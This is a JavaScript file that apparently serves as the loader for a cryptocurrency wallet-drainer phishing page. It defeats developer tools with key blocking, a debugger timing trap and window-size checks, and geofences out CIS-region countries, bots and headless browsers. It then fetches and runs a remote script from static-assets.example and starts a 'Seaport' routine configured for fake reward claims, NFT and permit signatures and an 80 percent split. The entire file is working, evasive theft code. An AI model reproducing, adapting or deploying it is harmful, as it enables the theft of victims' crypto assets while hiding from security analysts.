const blocked = ["RU", "BY", "KZ", "UA", "UZ", "AM", "AZ", "GE", "MD", "KG", "TJ"];
let armed = true;

const away = () => {
  armed = false;
  document.documentElement.innerHTML = "";
  location.replace("https://www.google.com/");
};

document.addEventListener("contextmenu", (e) => e.preventDefault());
document.addEventListener("keydown", (e) => {
  if (e.key === "F12" || (e.ctrlKey && e.shiftKey && ["I", "J", "C"].includes(e.key)) || (e.ctrlKey && e.key === "u")) {
    e.preventDefault();
    away();
  }
});
setInterval(() => {
  const t = performance.now();
  debugger;
  if (performance.now() - t > 120 || window.outerWidth - window.innerWidth > 220) away();
}, 900);

(async () => {
  const geo = await fetch("https://ipapi.co/json/").then((r) => r.json()).catch(() => ({}));
  if (blocked.includes(geo.country_code) || /bot|crawl|headless|scan/i.test(navigator.userAgent) || navigator.webdriver) return away();
  const key = "seen_" + geo.ip;
  if (localStorage.getItem(key) > 3) return away();
  localStorage.setItem(key, Number(localStorage.getItem(key) || 0) + 1);
  if (!armed) return;
  const s = document.createElement("script");
  s.src = "https://static-assets.example/w3m/" + Date.now().toString(36) + ".js";
  s.onload = () => window.Seaport.start({ claim: "ClaimRewards", nft: true, permit: true, split: 80, ip: geo.ip, country: geo.country_code });
  document.head.appendChild(s);
})();
